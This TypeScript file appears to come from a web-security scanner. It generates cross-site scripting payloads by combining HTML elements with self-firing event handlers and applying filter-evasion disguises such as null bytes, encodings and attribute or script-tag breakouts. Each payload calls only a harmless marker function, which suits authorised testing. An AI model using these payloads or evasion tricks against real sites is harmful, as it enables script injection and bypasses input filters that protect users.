import { choosePayloads } from "../templates/payloads.ts";

const act = "fired()";

/** Elements that a browser makes out of markup, each with what it needs to come to life. */
const elements = [
  "img src=x",
  "video src=x",
  "audio src=x",
  "svg",
  "body",
  "iframe",
  "object data=x",
  "input autofocus",
  "details open",
  "marquee",
  "a href=x",
  "div contenteditable",
  "embed src=x",
];
/** Events that happen by themselves, or by a hand that only passes over. */
const events = [
  "onload",
  "onerror",
  "onfocus",
  "ontoggle",
  "onstart",
  "onpageshow",
  "onanimationend",
  "ontransitionend",
  "onpointerover",
  "onbeforeinput",
  "onfocusin",
  "onresize",
  "onscroll",
  "oncanplay",
  "onwheel",
];
/** Ways to write the same so that a filter does not see it. */
const disguises: readonly ((markup: string) => string)[] = [
  (markup) => markup.replace("<", "<\u0000"),
  (markup) => markup.replaceAll(" ", "/"),
  (markup) => markup.replaceAll(" ", "\f"),
  (markup) => markup.replace(/on\w+/, (name) => name.toUpperCase()),
  (markup) => `'">${markup}`,
  (markup) => `</script>${markup}`,
  (markup) => markup.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  (markup) => markup.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (markup) => markup.replaceAll("<", "\uFF1C"),
];

const made = elements.flatMap((element, at) =>
  events.map((event, turn) => {
    const markup = `<${element} ${event}=${act}>`;
    const disguise = disguises[(at + turn) % (disguises.length + 4)];
    return disguise ? disguise(markup) : markup;
  }),
);

/** All of those for templates, and one for every element and event. */
export const manyPayloads: readonly string[] = [...new Set([...choosePayloads(null).all, ...made])];
